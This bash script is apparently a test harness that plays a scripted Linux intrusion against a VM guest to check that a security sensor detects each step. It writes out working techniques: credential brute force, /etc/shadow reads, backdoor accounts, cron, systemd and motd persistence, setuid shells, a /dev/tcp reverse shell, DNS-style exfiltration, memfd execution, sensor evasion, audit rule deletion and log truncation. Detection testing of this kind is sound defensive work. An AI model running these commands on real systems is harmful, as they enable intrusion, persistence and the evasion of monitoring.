#!/usr/bin/env bash
# The scripted intrusion that `cargo xtask vm-test` plays against a guest,
# run on the HOST. Each step appends "NAME<TAB>EPOCH_MS" to $STEPS right
# before its action; xtask/src/vm_test/verify.rs knows the same names and
# checks that the sensor in the guest reported each step.
#
# Environment (set by the harness):
#   SSH_PORT        host port forwarded to the guest's sshd
#   SSH_KEY         private key that logs in as root
#   GUEST_USER      non-root user in group sudo (dev)
#   GUEST_PASSWORD  its (weak) password
#   LISTEN_PORT     host port this script listens on for the reverse shell;
#                   the guest reaches the host as 10.0.2.2 (QEMU user net)
#   STEPS           file the step lines are appended to
#   HOST_IP         optional: the host as the guest sees it (10.0.2.2)
#   LISTEN_ADDRESS  optional: where the host listener binds (127.0.0.1)
#
# Every action that must succeed is checked; a failure exits non-zero and
# names the step, so that a broken scenario is not mistaken for a sensor
# that saw nothing.

# -E: functions inherit the ERR trap that names the failing step.
set -Eeuo pipefail

: "${SSH_PORT:?}" "${SSH_KEY:?}" "${GUEST_USER:?}" "${GUEST_PASSWORD:?}" "${LISTEN_PORT:?}" "${STEPS:?}"

# The guest's view of the host: QEMU's user network (and VirtualBox's NAT)
# make it 10.0.2.2; under Vagrant with libvirt, set HOST_IP to the
# network's gateway and LISTEN_ADDRESS to 0.0.0.0.
readonly HOST_IP=${HOST_IP:-10.0.2.2}
readonly LISTEN_ADDRESS=${LISTEN_ADDRESS:-127.0.0.1}
# Names the verifier matches on: keep in step with verify.rs.
readonly BACKDOOR_USER=backdoor
readonly LOG_FILE=/var/log/dpkg.log
readonly CONTAINER=scenario
readonly IMAGE=localhost/busybox

SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
          -o ConnectTimeout=10 -p "$SSH_PORT")
PASSWORD_OPTS=(-o PreferredAuthentications=password -o PubkeyAuthentication=no
               -o NumberOfPasswordPrompts=1)

CURRENT=setup
WORK=$(mktemp -d)
LISTENER_PID=

cleanup() {
    if [[ -n $LISTENER_PID ]]; then
        kill "$LISTENER_PID" 2>/dev/null || true
    fi
    rm -rf "$WORK"
}
trap cleanup EXIT
# set -e stops at the first failing command; say which step it was in.
trap 'echo "attack-scenario: step $CURRENT failed (line $LINENO)" >&2' ERR

die() {
    echo "attack-scenario: step $CURRENT failed: $*" >&2
    exit 1
}

# Records the step's time (host clock, ms) before its action, so that the
# verifier's latency is from the action to the collector's receipt.
step() {
    CURRENT=$1
    printf '%s\t%s\n' "$1" "$(date +%s%3N)" >>"$STEPS"
    echo "attack-scenario: $1" >&2
}

# Runs the bash script on stdin as root in the guest, arguments as $1….
# The script comes on stdin (no quoting through ssh's command line), so
# commands in it that read stdin must take </dev/null.
as_root() {
    timeout 180 ssh "${SSH_OPTS[@]}" -i "$SSH_KEY" -o BatchMode=yes root@127.0.0.1 \
        bash -euo pipefail -s -- "$@"
}

# How many connections the host listener has accepted.
accepted() {
    grep -c '^accepted' "$WORK/listener.log" || true
}

# A listener for the reverse shell and the container's connection: it
# accepts, logs, tells the shell to exit (so the guest side ends on its
# own), reads what comes back for a few seconds and closes.
start_listener() {
    python3 - "$LISTEN_ADDRESS" "$LISTEN_PORT" "$WORK/listener.log" <<'PY' &
import socket, sys
address, port, log = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "a", buffering=1)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((address, port))
s.listen(8)
log.write("listening\n")
while True:
    c, peer = s.accept()
    log.write("accepted %s:%d\n" % peer)
    c.settimeout(3)
    try:
        c.sendall(b"exit\n")
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
PY
    LISTENER_PID=$!
    for _ in $(seq 50); do
        grep -q '^listening' "$WORK/listener.log" 2>/dev/null && return 0
        kill -0 "$LISTENER_PID" 2>/dev/null || die "the listener on port $LISTEN_PORT exited"
        sleep 0.1
    done
    die "the listener on port $LISTEN_PORT did not start"
}

# Waits until the listener has accepted more than $1 connections.
wait_accepted() {
    for _ in $(seq 100); do
        (($(accepted) > $1)) && return 0
        sleep 0.1
    done
    die "the host listener accepted no connection from the guest"
}

# Not a step: leftovers of an earlier run go, the log file to truncate has
# content, and an audit rule exists for `auditctl -D` to delete (with no
# rules it deletes nothing and the kernel reports no change).
prepare() {
    as_root "$BACKDOOR_USER" "$CONTAINER" "$LOG_FILE" <<'EOF'
for tool in perl podman setcap getcap auditctl busybox useradd; do
    command -v "$tool" >/dev/null || { echo "guest lacks $tool" >&2; exit 1; }
done
userdel -r "$1" >/dev/null 2>&1 || true
podman rm -f -t 0 "$2" >/dev/null 2>&1 || true
rm -f /etc/cron.d/scenario /etc/cron.d/.magic /etc/.cron-staged /tmp/.c /tmp/.e /tmp/.sh /tmp/.ping /tmp/.rootkit.ko
echo "scenario: a line for the log truncation" >>"$3"
auditctl -d always,exit -F arch=b64 -S mknodat -k scenario >/dev/null 2>&1 || true
auditctl -a always,exit -F arch=b64 -S mknodat -k scenario >/dev/null
EOF
}

bruteforce() {
    step ssh_bruteforce
    local i rc out
    for i in 1 2 3 4; do
        rc=0
        out=$(SSHPASS="wrong-password-$i" timeout 30 sshpass -e ssh "${SSH_OPTS[@]}" "${PASSWORD_OPTS[@]}" \
            "$GUEST_USER@127.0.0.1" true </dev/null 2>&1) || rc=$?
        # One prompt per connection: ssh gives up with "Permission denied"
        # (sshpass exits 5 if it sees a second prompt). Anything else means
        # the attempt never reached the password check.
        if ((rc == 0)) || { ((rc != 5)) && [[ $out != *"Permission denied"* ]]; }; then
            die "wrong password attempt $i was not refused by the password check (exit $rc): $out"
        fi
    done
}

# A password login whose session, once open, runs sudo with the password:
# the session's stdin is a fifo, so that the sudo step's time can be taken
# after the login and before sudo.
login_and_sudo() {
    step ssh_login
    mkfifo "$WORK/in"
    SSHPASS="$GUEST_PASSWORD" timeout 90 sshpass -e ssh "${SSH_OPTS[@]}" "${PASSWORD_OPTS[@]}" \
        "$GUEST_USER@127.0.0.1" 'echo scenario-logged-in; read -r go; sudo -S -p "" cat /etc/shadow' \
        <"$WORK/in" >"$WORK/session.out" 2>&1 &
    local session=$!
    exec 3>"$WORK/in"
    local i
    for i in $(seq 300); do
        grep -q scenario-logged-in "$WORK/session.out" && break
        kill -0 "$session" 2>/dev/null || die "the password login ended: $(cat "$WORK/session.out")"
        ((i < 300)) || die "no shell within 30 s of the password login"
        sleep 0.1
    done

    step sudo_root
    printf 'go\n%s\n' "$GUEST_PASSWORD" >&3
    exec 3>&-
    wait "$session" || die "sudo cat /etc/shadow: $(cat "$WORK/session.out")"
    grep -q '^root:' "$WORK/session.out" || die "sudo did not read /etc/shadow: $(cat "$WORK/session.out")"
}

backdoor_account() {
    step backdoor_account
    as_root "$BACKDOOR_USER" <<'EOF'
useradd -m -s /bin/bash "$1"
# Not a usable key: the point is the write, not a way in.
key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioBackdoorKeyNotAUsableKey00000 $1@scenario"
echo "$key" >>/root/.ssh/authorized_keys
# The new account's own ~/.ssh, made after the sensor started: a key
# renamed into it through a symlink whose path names no .ssh, so that
# only the names the kernel resolved (fentry) tell where it went.
install -d -m 700 -o "$1" -g "$1" "/home/$1/.ssh"
ln -sfn "/home/$1/.ssh" /tmp/.k
echo "$key" >/tmp/.key
mv /tmp/.key /tmp/.k/authorized_keys
[ -s "/home/$1/.ssh/authorized_keys" ]
rm /tmp/.k
id "$1" >/dev/null
EOF
}

# The weak user persists without root: a user unit of its own, which
# systemd starts at its next login, and a drop-in that adds a command to a
# unit it already runs, renamed into place through a symlink whose path
# names no systemd/user directory, so that only the names the kernel
# resolved (fentry) tell where it went.
user_unit() {
    step user_unit
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- sh -ec '
units=$1/.config/systemd/user
mkdir -p "$units/dbus.service.d"
printf "[Service]\nExecStart=/bin/sh -c \"sleep 1\"\n" >"$units/.update.service"
ln -sfn "$units/dbus.service.d" /tmp/.u
printf "[Service]\nExecStartPre=/bin/true\n" >"$1/.conf"
mv "$1/.conf" /tmp/.u/override.conf
rm /tmp/.u
' sh "/home/$1" </dev/null
[ -s "/home/$1/.config/systemd/user/dbus.service.d/override.conf" ]
EOF
}

# The weak user persists through its shell's startup file, which runs at
# each of its logins (matched by the file's own name); root, through a
# script that every login shell sources (a default watched directory).
shell_rc() {
    step shell_rc
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- sh -ec 'echo "(sleep 1 &) 2>/dev/null" >>"$1/.bashrc"' sh "/home/$1" </dev/null
echo ': update' >/etc/profile.d/zz-update.sh
grep -q 'sleep 1' "/home/$1/.bashrc"
EOF
}

# A script renamed into /etc/update-motd.d/, which pam_motd runs as root
# at each ssh login: a default path beyond the kernel's string slots,
# watched by inode only, so the rename is decided by the inode the kernel
# resolved (fentry/security_inode_rename; the event then names it by its
# path). Made in /etc first: a rename from /tmp (another filesystem)
# would be a copy.
motd_persistence() {
    step motd_persistence
    as_root <<'EOF'
printf '#!/bin/sh\n:\n' >/etc/.99-scenario.tmp
chmod 755 /etc/.99-scenario.tmp
mv /etc/.99-scenario.tmp /etc/update-motd.d/99-scenario
[ -x /etc/update-motd.d/99-scenario ]
EOF
}

setuid_shell() {
    step setuid_shell
    as_root <<'EOF'
cp /bin/bash /tmp/.sh
chmod u+s /tmp/.sh
[ "$(stat -c %a /tmp/.sh)" = 4755 ]
EOF
}

# The same as the weak user, with the path's text in a page that the
# sensor's read at the syscall's entry cannot fault in (scenario-actor
# chmod-unread-path): only the file the kernel resolved names it
# (fentry/security_path_chmod).
hidden_chmod() {
    step hidden_chmod
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- sh -c 'cp /bin/sh /tmp/.hidden-suid && scenario-actor chmod-unread-path /tmp/.chmod-path /tmp/.hidden-suid 4755 >/dev/null' </dev/null
[ "$(stat -c %a /tmp/.hidden-suid)" = 4755 ]
EOF
}

# The weak user makes a file of its own world-writable through a symlink
# under a prefix the sensor ignores: the file outside the prefix, which
# the kernel resolved, decides, not the symlink's name. First the reverse,
# which the filter drops: a file under the prefix, through a symlink
# outside it. Last, through a hard link under the prefix, where
# resolution stops: the file's second name keeps it.
ignored_symlink_chmod() {
    step ignored_symlink_chmod
    as_root "$GUEST_USER" "$IGNORED_PREFIX" <<'EOF'
runuser -u "$1" -- sh -c '
mkdir -p "$1" && touch "$1/plain" && ln -sf "$1/plain" /tmp/.to-ignored && chmod 600 /tmp/.to-ignored &&
cp /bin/sh /tmp/.linked-tool && ln -sf /tmp/.linked-tool "$1/tool" && chmod 777 "$1/tool" &&
touch /tmp/.hard-linked && ln -f /tmp/.hard-linked "$1/hard" && chmod 666 "$1/hard"' sh "$2" </dev/null
[ "$(stat -c %a "$2/plain")" = 600 ]
[ "$(stat -c %a /tmp/.linked-tool)" = 777 ]
[ "$(stat -c %a /tmp/.hard-linked)" = 666 ]
EOF
}

# root hands the weak user a copy of a shell through a symlink: the file
# the kernel resolved is named where the chown hook loads (6.1 on).
symlink_chown() {
    step symlink_chown
    as_root "$GUEST_USER" <<'EOF'
cp /bin/sh /tmp/.owned-sh && ln -sf /tmp/.owned-sh /tmp/.owned-link && chown "$1:$1" /tmp/.owned-link
[ "$(stat -c %U /tmp/.owned-sh)" = "$1" ]
EOF
}

# A 168-byte static x86_64 program, written by hand (no compiler in the
# guest), that goes through the ia32 syscall ABI, which the syscalls:
# tracepoints never see:
#   mov eax, 15;  mov ebx, path; mov ecx, 04755; int 0x80   chmod u+s
#   mov eax, 213; xor ebx, ebx; int 0x80                    setuid32(0): EPERM
#   mov eax, 60;  xor edi, edi; syscall                     exit(0)
#   path: "/tmp/.ia32sh"
readonly IA32_PROGRAM=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAAAAAAAAEAAAAFAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAqAAAAAAAAACoAAAAAAAAAAAQAAAAAAAAuA8AAAC7mwBAALntCQAAzYC41QAAADHbzYC4PAAAADH/DwUvdG1wLy5pYTMyc2gA
readonly IA32_COPY=/tmp/.ia32sh
# The harness's sensor config ignores this prefix (xtask/src/vm_test/mod.rs).
readonly IGNORED_PREFIX=/tmp/.ignored

# As the weak user: a setuid copy of a shell and a try for root, both
# through int 0x80.
ia32_syscalls() {
    step ia32_syscalls
    as_root "$GUEST_USER" "$IA32_PROGRAM" "$IA32_COPY" <<'EOF'
rm -f "$3" /tmp/.ia32
runuser -u "$1" -- sh -c 'cp /bin/sh "$2" && chmod 755 "$2" && echo "$1" | base64 -d >/tmp/.ia32 && chmod 700 /tmp/.ia32 && /tmp/.ia32' sh "$2" "$3"
[ "$(stat -c %a "$3")" = 4755 ]
EOF
}

file_capability() {
    step file_capability
    as_root <<'EOF'
cp "$(command -v busybox)" /tmp/.ping
setcap cap_net_raw+ep /tmp/.ping
# Captured, not piped into grep -q: under pipefail an early exit of grep
# could fail the pipeline with SIGPIPE.
caps=$(getcap /tmp/.ping)
[[ $caps == *cap_net_raw* ]]
EOF
}

# The same with the sensor's read at the syscall's entry shown another
# value: the name waits in a userfaultfd page while the process rewrites
# the value, which the entry already read (see scenario-actor
# setcap-rewritten). Reported with the capability set the kernel copied
# (CAP_SETUID, which fentry/security_inode_setxattr reads) and `rewritten`.
hidden_capability() {
    step hidden_capability
    as_root <<'EOF'
cp "$(command -v busybox)" /tmp/.su
scenario-actor setcap-rewritten /tmp/.su >/dev/null
caps=$(getcap /tmp/.su)
[[ $caps == *cap_setuid* ]]
EOF
}

# A file capability set by dev as root of a user namespace of its own
# (as in a rootless container): the kernel stores it as revision 3 with
# dev's uid as the namespace's root. Reported with that root uid, and not
# flagged as rewritten (the conversion is the kernel's, not a thread's).
namespaced_capability() {
    step namespaced_capability
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- sh -c 'cp "$(command -v busybox)" /tmp/.nscap && unshare --user --map-root-user setcap cap_net_raw+ep /tmp/.nscap' </dev/null
[[ $(getcap /tmp/.nscap) == *cap_net_raw* ]]
EOF
}

# /tmp/.su's capability (hidden_capability) removed, with the name where
# the sensor's read at the entry cannot reach it: named by the kernel's
# copy (fentry/security_inode_removexattr).
hidden_capability_removal() {
    step hidden_capability_removal
    as_root <<'EOF'
[ "$(scenario-actor removexattr-unread-name /tmp/.xattr-name security.capability /tmp/.su)" = ok ]
[ -z "$(getcap /tmp/.su)" ]
EOF
}

reverse_shell() {
    local before
    before=$(accepted)
    step reverse_shell
    # The listener sends `exit`, so the interactive shell ends by itself;
    # the timeout only bounds a listener that does not.
    as_root "$HOST_IP" "$LISTEN_PORT" <<'EOF'
rc=0
timeout 10 bash -c "bash -i >& /dev/tcp/$1/$2 0>&1" </dev/null || rc=$?
[ "$rc" = 0 ] || [ "$rc" = 124 ] || { echo "reverse shell exited $rc" >&2; exit 1; }
EOF
    wait_accepted "$before"
}

# The same connection opened with no connect call: a TCP Fast Open send
# (sendto with MSG_FASTOPEN; Linux clients may send them by default), by
# the weak user, as a reverse shell that evades connect hooks would.
fast_open_shell() {
    local before
    before=$(accepted)
    step fast_open_shell
    as_root "$GUEST_USER" "$HOST_IP" "$LISTEN_PORT" <<'EOF'
runuser -u "$1" -- scenario-actor fast-open-connect "$2" "$3" </dev/null
EOF
    wait_accepted "$before"
}

# Data out a datagram at a time, as DNS queries to the host, by the weak
# user's perl script (perl-base's Socket): sendto with an address on a
# socket never connected, so no connect call and no socket state change.
# Two datagrams to one destination: one event, the flow's first.
udp_exfiltration() {
    step udp_exfiltration
    as_root "$GUEST_USER" "$HOST_IP" <<'EOF'
runuser -u "$1" -- perl -MSocket -e '
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
my $to = pack_sockaddr_in(53, inet_aton($ARGV[0]));
for my $chunk (qw(cm9vdDp4OjA6MDpyb290 Oi9yb290Oi9iaW4vYmFzaA)) {
    my $query = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0)
        . chr(length $chunk) . $chunk . "\x05exfil\x00" . pack("n2", 16, 1);
    send($s, $query, 0, $to) or die "send: $!";
}' "$2" </dev/null
EOF
}

# An implant waiting on a UDP port for its orders, by the weak user: a
# bound socket that receives (perl's recv asks for the sender's address).
# No accept, no connect: its first datagram from a peer is the event. The
# sender (root's perl) tries every 100 ms until the implant has one.
udp_implant() {
    step udp_implant
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- perl -MSocket -e '
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
bind($s, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "bind: $!";
defined(recv($s, my $order, 512, 0)) or die "recv: $!";
' </dev/null &
implant=$!
for _ in $(seq 100); do
    kill -0 "$implant" 2>/dev/null || break
    perl -MSocket -e '
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
send($s, "run", 0, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "send: $!";
' </dev/null
    sleep 0.1
done
if kill -0 "$implant" 2>/dev/null; then
    kill "$implant"
    echo "the implant received nothing in 10 s" >&2
    exit 1
fi
wait "$implant"
EOF
}

# A passive backdoor's listening post (BPFDoor's way): a packet socket
# for every frame, opened by root's perl, from which it would wait for a
# magic packet with no port bound, so no bind, listen or accept to see.
# Before it the weak user's try at a raw ICMP socket (an ICMP tunnel's),
# refused without CAP_NET_RAW. perl-base's socket takes the numbers:
# AF_PACKET 17, SOCK_RAW 3, htons(ETH_P_ALL) 768 on x86; AF_INET 2,
# IPPROTO_ICMP 1.
packet_backdoor() {
    step packet_backdoor
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- perl -e '
socket(my $s, 2, 3, 1) and die "a raw socket for an unprivileged user";
$!{EPERM} or die "raw socket: $!";
' </dev/null
perl -e 'socket(my $s, 17, 3, 768) or die "packet socket: $!"' </dev/null
EOF
}

# perl (perl-base; no python in the guest) creates a memfd, copies echo's
# ELF into it and execs it through /proc/self/fd: nothing runs from disk.
memfd_exec() {
    step memfd_exec
    local out
    out=$(as_root <<'EOF'
perl - <<'PERL'
use strict;
# x86_64 syscall numbers; aarch64 guests would need 279 and 64.
my ($SYS_memfd_create, $SYS_write) = (319, 1);
my $name = "scenario";
my $fd = syscall($SYS_memfd_create, $name, 0);
die "memfd_create: $!" if $fd < 0;
open(my $in, "<:raw", "/bin/echo") or die "open /bin/echo: $!";
my $elf = do { local $/; <$in> };
close $in;
for (my $off = 0; $off < length $elf;) {
    my $chunk = substr($elf, $off);
    my $n = syscall($SYS_write, $fd, $chunk, length $chunk);
    die "write: $!" if $n <= 0;
    $off += $n;
}
exec {"/proc/self/fd/$fd"} "echo", "scenario-memfd-ran" or die "exec: $!";
PERL
EOF
)
    [[ $out == *scenario-memfd-ran* ]] || die "the program in the memfd did not run: $out"
}

# Secrets lifted from a running process's memory through /proc/PID/mem,
# with no ptrace call: an open for reading, which only the fexit hook on
# mem_open sees (the open-exit fallback sees opens for writing).
memory_theft() {
    step memory_theft
    as_root <<'EOF'
sleep 600 </dev/null >/dev/null 2>&1 &
victim=$!
start=$(awk 'NR == 1 { split($1, a, "-"); print a[1] }' "/proc/$victim/maps")
n=$(dd if="/proc/$victim/mem" bs=16 count=1 skip=$((16#$start)) iflag=skip_bytes status=none | wc -c)
kill "$victim"
[ "$n" = 16 ]
EOF
}

# As the weak user: root inside a user namespace of its own, the usual
# first step of a kernel exploit (it opens netfilter and mount code to an
# unprivileged user), reported as namespace_create.
user_namespace() {
    step user_namespace
    as_root "$GUEST_USER" <<'EOF'
[ "$(runuser -u "$1" -- unshare --user --map-root-user id -u </dev/null)" = 0 ]
EOF
}

# The same made hard to see: a clone3 whose flags sit in a file page the
# process never touched, which the sensor's read at the syscall's entry
# cannot fault in (the kernel's copy can). Reported from the fork, with
# sensor.namespace.requested [] (see scenario-actor clone3-unread-flags).
hidden_namespace() {
    step hidden_namespace
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- scenario-actor clone3-unread-flags "/tmp/.clone_args.$$" >/dev/null </dev/null
rm -f "/tmp/.clone_args.$$"
EOF
}

# A connect made hard to see the same way: its address in a file page the
# process never touched. dev tries systemd's private control socket and is
# refused (EACCES); only the kernel's copy of the address, which
# fentry/security_socket_connect reads, names the path.
hidden_connect() {
    step hidden_connect
    as_root "$GUEST_USER" <<'EOF'
runuser -u "$1" -- scenario-actor connect-unread-addr "/tmp/.sockaddr.$$" /run/systemd/private >/dev/null </dev/null
rm -f "/tmp/.sockaddr.$$"
EOF
}

# The weak user binds a privileged port (refused: EACCES) with the address
# where the sensor's read at the entry cannot reach it. A refused bind
# leaves the socket unbound, so only the kernel's copy
# (fentry/security_socket_bind) names the port.
hidden_bind() {
    step hidden_bind
    as_root "$GUEST_USER" <<'EOF'
out=$(runuser -u "$1" -- scenario-actor bind-unread-addr "/tmp/.bindaddr.$$" 0.0.0.0:80 </dev/null)
rm -f "/tmp/.bindaddr.$$"
[ "$out" = 13 ]
EOF
}

# A process outside the host's network namespace (as in a container)
# gets back into it through init's namespace files: how a container
# escape ends (nsenter -t 1), reported with sensor.namespace.host.
namespace_escape() {
    step namespace_escape
    as_root <<'EOF'
host=$(readlink /proc/1/ns/net)
unshare --net sh -c '[ "$(readlink /proc/self/ns/net)" != "$1" ] && nsenter -t 1 -n sh -c "[ \"\$(readlink /proc/self/ns/net)\" = \"$1\" ]"' sh "$host"
EOF
}

# A kernel loaded to boot into, past the running one's module checks:
# the image is garbage, so the kernel refuses it, and the attempt must
# still be reported with the file. (scenario-actor: see io_uring below.)
kexec_attempt() {
    step kexec_attempt
    as_root <<'EOF'
head -c 4096 /dev/urandom >/tmp/.vmlinuz
scenario-actor kexec-file-garbage /tmp/.vmlinuz >/dev/null
EOF
}

# A rootkit's load: the image is garbage, so the kernel refuses it, and
# the attempt must still be reported with its outcome.
module_load() {
    step module_load
    as_root <<'EOF'
head -c 4096 /dev/urandom >/tmp/.rootkit.ko
if insmod /tmp/.rootkit.ko 2>/dev/null; then echo "the kernel loaded garbage" >&2; exit 1; fi
EOF
}

# A module loaded from memory (init_module: no file for the event to
# name), then unloaded: both events must name the module as the kernel
# had it. nlmon is in every kernel the guests boot, and nothing loads it.
module_from_memory() {
    step module_from_memory
    as_root <<'EOF'
ko=$(modinfo -n nlmon)
case $ko in
*.xz) busybox xzcat "$ko" >/tmp/.m.ko ;;
*) cp "$ko" /tmp/.m.ko ;;
esac
scenario-actor init-module /tmp/.m.ko >/dev/null
rm -f /tmp/.m.ko
rmmod nlmon
EOF
}

# Then a second entry staged in /tmp and moved in by a relative name:
# coreutils' mv (9.0 on) renames it into a directory fd of cron.d.
cron_persistence() {
    step cron_persistence
    as_root <<'EOF'
echo '*/5 * * * * root /tmp/.sh -p -c true' >/etc/cron.d/scenario
cd /tmp
echo '*/5 * * * * root /tmp/.sh -p -c true' >.cron-moved
mv .cron-moved /etc/cron.d/
rm /etc/cron.d/.cron-moved
EOF
}

# The intruder removes its cron entry through a symlinked directory: the
# path argument names no watched path, the file it reaches is in one.
cron_removed_via_symlink() {
    step cron_removed_via_symlink
    as_root <<'EOF'
ln -sfn /etc /tmp/.e
rm /tmp/.e/cron.d/scenario
[ ! -e /etc/cron.d/scenario ]
rm /tmp/.e
EOF
}

# The intruder's cron entry again, through a symlink to its own cwd (a
# magic link): the rename's path names /tmp/.c, and the directory it leads
# to is whichever the renaming process is in. The link is reported when it
# is made; the rename is followed through it to mv's cwd at the call.
cron_via_magic_link() {
    step cron_via_magic_link
    as_root <<'EOF'
ln -sfn /proc/self/cwd /tmp/.c
echo '*/5 * * * * root /tmp/.sh -p -c true' >/etc/.cron-staged
cd /etc/cron.d
mv /etc/.cron-staged /tmp/.c/.magic
grep -q /tmp/.sh /etc/cron.d/.magic
rm /etc/cron.d/.magic /tmp/.c
EOF
}

# A service enabled the way systemctl does it, by a symlink in a .wants
# directory, and a second name kept for /etc/shadow: no file is opened for
# writing. Both through symlinked directories, so that only the inode the
# kernel resolved names the watched paths. Then /var/spool moved away and
# back, as an intruder swaps in a tree with crontabs of their own.
link_persistence() {
    step link_persistence
    as_root <<'EOF'
ln -sfn /etc/systemd/system /tmp/.s
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s /tmp/.scenario.service /tmp/.s/multi-user.target.wants/scenario.service
rm /etc/systemd/system/multi-user.target.wants/scenario.service /tmp/.s
ln -sfn /etc /tmp/.e
ln /tmp/.e/shadow /root/.shadow-copy
rm /root/.shadow-copy /tmp/.e
mv /var/spool /var/.spool-moved
mv /var/.spool-moved /var/spool
EOF
}

# The same persistence through an io_uring ring: an openat and a write
# submitted to the kernel without their syscalls, past every syscall hook.
# Then through a symlink under the sensor's ignored path prefix, which
# must not hide the cron file it leads to, a setuid capability on a
# shell copy under that prefix, and a cron entry staged in /tmp and moved
# in by names relative to two directory fds (as coreutils' mv does), all
# through the ring too (5.19+; the move from 5.11).
# (scenario-actor is the integration tests' actor, copied in by the harness.)
io_uring_persistence() {
    step io_uring_persistence
    as_root <<'EOF'
rm -f /etc/cron.d/.uring /etc/cron.d/.uring-linked /etc/cron.d/.uring-moved
scenario-actor io-uring-write /etc/cron.d/.uring '*/5 * * * * root /tmp/.sh -p -c true'
grep -q /tmp/.sh /etc/cron.d/.uring
mkdir -p /tmp/.ignored
ln -sfn /etc/cron.d/.uring-linked /tmp/.ignored/cron
scenario-actor io-uring-write /tmp/.ignored/cron '*/5 * * * * root /tmp/.sh -p -c true'
grep -q /tmp/.sh /etc/cron.d/.uring-linked
cp /bin/sh /tmp/.ignored/.uring-sh
scenario-actor io-uring-setcap /tmp/.ignored/.uring-sh
echo '*/5 * * * * root /tmp/.sh -p -c true' > /tmp/.uring-moved
scenario-actor io-uring-move /tmp .uring-moved /etc/cron.d
EOF
}

log_truncation() {
    step log_truncation
    as_root "$LOG_FILE" <<'EOF'
truncate -s 0 "$1"
[ ! -s "$1" ]
EOF
}

audit_rules_deleted() {
    step audit_rules_deleted
    as_root <<'EOF'
auditctl -D >/dev/null
[ "$(auditctl -l)" = "No rules" ]
EOF
}

container_activity() {
    # Started before the step: the step is what happens inside it.
    as_root "$CONTAINER" "$IMAGE" <<'EOF'
podman run -d --name "$1" "$2" sleep 600 >/dev/null </dev/null
EOF
    local before
    before=$(accepted)
    step container_activity
    as_root "$CONTAINER" "$HOST_IP" "$LISTEN_PORT" <<'EOF'
# In / (the image may have no /tmp); nc ends when the listener closes.
podman exec "$1" sh -c "touch /scenario-suid; chmod 4755 /scenario-suid; \
    echo scenario-in-container | nc $2 $3" </dev/null
podman exec "$1" sh -c '[ -u /scenario-suid ]' </dev/null
EOF
    wait_accepted "$before"
    as_root "$CONTAINER" <<'EOF'
podman rm -f -t 0 "$1" >/dev/null </dev/null
EOF
}

# Last: the sensor is killed (systemd restarts it). Its restart is waited
# for, so that the harness collects from a running sensor afterwards.
sensor_kill() {
    step sensor_kill
    as_root <<'EOF'
old=$(pidof sensor) || { echo "no sensor process" >&2; exit 1; }
kill -TERM $old
for _ in $(seq 60); do
    new=$(pidof sensor || true)
    if [ -n "$new" ] && [ "$new" != "$old" ]; then exit 0; fi
    sleep 0.5
done
echo "attack-scenario: warning: the sensor did not come back within 30 s" >&2
EOF
}

main() {
    start_listener
    prepare
    bruteforce
    login_and_sudo
    backdoor_account
    user_unit
    shell_rc
    motd_persistence
    setuid_shell
    hidden_chmod
    ignored_symlink_chmod
    symlink_chown
    ia32_syscalls
    file_capability
    hidden_capability
    namespaced_capability
    hidden_capability_removal
    reverse_shell
    fast_open_shell
    udp_exfiltration
    udp_implant
    packet_backdoor
    memfd_exec
    memory_theft
    user_namespace
    hidden_namespace
    hidden_connect
    hidden_bind
    namespace_escape
    kexec_attempt
    module_load
    module_from_memory
    cron_persistence
    cron_removed_via_symlink
    cron_via_magic_link
    link_persistence
    io_uring_persistence
    log_truncation
    audit_rules_deleted
    container_activity
    sensor_kill
    CURRENT=done
    echo "attack-scenario: all steps played" >&2
}

main "$@"
